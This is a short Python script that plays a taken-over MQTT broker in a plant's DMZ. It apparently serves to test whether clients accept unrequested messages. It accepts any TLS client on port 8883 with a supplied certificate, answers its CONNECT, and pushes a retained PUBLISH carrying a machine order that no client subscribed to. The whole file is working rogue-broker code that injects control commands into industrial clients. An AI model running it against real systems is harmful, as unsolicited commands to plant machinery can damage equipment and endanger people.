#!/usr/bin/python3
"""
A DMZ broker that somebody has taken over: it has the right certificate, admits whoever connects, and sends an order for a machine
of the plant down the connection, though nobody has subscribed to it.
    taken_over.py ADDRESS CERTIFICATE KEY TOPIC MESSAGE
"""
import socket
import ssl
import sys


def short(octets):
    return len(octets).to_bytes(2, "big") + octets


def main(address, certificate, key, topic, message):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    with socket.create_server((address, 8883)) as listener:
        while True:
            connection, _ = listener.accept()
            with context.wrap_socket(connection, server_side=True) as bridge:
                bridge.recv(4096)                    # CONNECT
                bridge.sendall(b"\x20\x02\x00\x00")  # CONNACK: welcome
                body = short(topic.encode()) + message.encode()
                bridge.sendall(bytes([0x31, len(body)]) + body)  # PUBLISH, retained
                print("sent", topic, flush=True)
                while bridge.recv(4096):
                    pass


if __name__ == "__main__":
    if len(sys.argv) != 6:
        sys.exit(__doc__)
    main(*sys.argv[1:])
